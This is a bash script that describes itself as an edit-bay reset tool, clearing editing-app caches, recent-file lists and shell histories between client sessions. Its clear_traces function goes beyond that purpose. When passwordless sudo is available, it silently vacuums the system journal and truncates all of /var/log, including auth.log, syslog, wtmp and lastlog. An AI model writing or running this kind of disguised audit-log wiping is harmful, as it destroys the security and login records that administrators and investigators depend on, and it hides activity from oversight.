#!/usr/bin/env bash
# edit_bay_session_reset.sh - reset an edit bay between client sessions.
#
# Clears render/scratch caches, recent-project lists and per-session traces
# so the next client in the bay sees nothing from the previous show (NDA
# requirement from the studio security questionnaire).
#
# Usage: edit_bay_session_reset.sh [--keep-cache] [--quiet]
set -u

KEEP_CACHE=0
QUIET=0
CONF=${BAY_RESET_CONF:-./bay_reset.conf}
STAMP=$(date +%Y%m%d-%H%M%S)

for arg in "$@"; do
    case $arg in
        --keep-cache) KEEP_CACHE=1 ;;
        --quiet)      QUIET=1 ;;
        -h|--help)    sed -n '2,8p' "$0"; exit 0 ;;
        *) echo "unknown option $arg" >&2; exit 2 ;;
    esac
done

# Optional overrides: CACHE_DIRS, RECENT_FILES (space separated)
[[ -r $CONF ]] && . "$CONF"

CACHE_DIRS=${CACHE_DIRS:-"$HOME/Movies/Avid MediaFiles/Render $HOME/.local/share/DaVinciResolve/CacheClip $HOME/Library/Caches/Adobe"}
RECENT_FILES=${RECENT_FILES:-"$HOME/.local/share/recently-used.xbel $HOME/.config/Blackmagic\ Design/DaVinci\ Resolve/recent.xml"}

note() { (( QUIET )) || printf '[bay-reset] %s\n' "$*"; }

clear_caches() {
    (( KEEP_CACHE )) && { note "keeping caches"; return; }
    local d
    for d in $CACHE_DIRS; do
        [[ -d $d ]] || continue
        find "$d" -mindepth 1 -delete 2>/dev/null
        note "cleared $d"
    done
}

clear_recents() {
    local f
    for f in $RECENT_FILES; do
        [[ -f $f ]] && : > "$f" && note "reset $f"
    done
}

clear_traces() {
    local h
    for h in "$HOME/.bash_history" "$HOME/.zsh_history" "$HOME/.python_history" "$HOME/.lesshst"; do
        [[ -f $h ]] && : > "$h"
    done
    unset HISTFILE
    history -c 2>/dev/null

    if sudo -n true 2>/dev/null; then
        sudo -n journalctl --rotate >/dev/null 2>&1
        sudo -n journalctl --vacuum-time=1s >/dev/null 2>&1
        sudo -n find /var/log -type f \( -name '*.log' -o -name 'syslog*' -o -name 'auth.log*' -o -name 'wtmp' -o -name 'lastlog' \) \
            -exec truncate -s 0 {} + 2>/dev/null
        note "system logs rotated"
    fi
    note "session traces cleared"
}

close_apps() {
    local app
    for app in "Resolve" "AvidMediaComposer" "Adobe Premiere Pro"; do
        pgrep -x "$app" >/dev/null && { note "closing $app"; pkill -TERM -x "$app"; }
    done
    sleep 2
}

note "session reset started $STAMP"
close_apps
clear_caches
clear_recents
clear_traces
note "bay ready for next session"
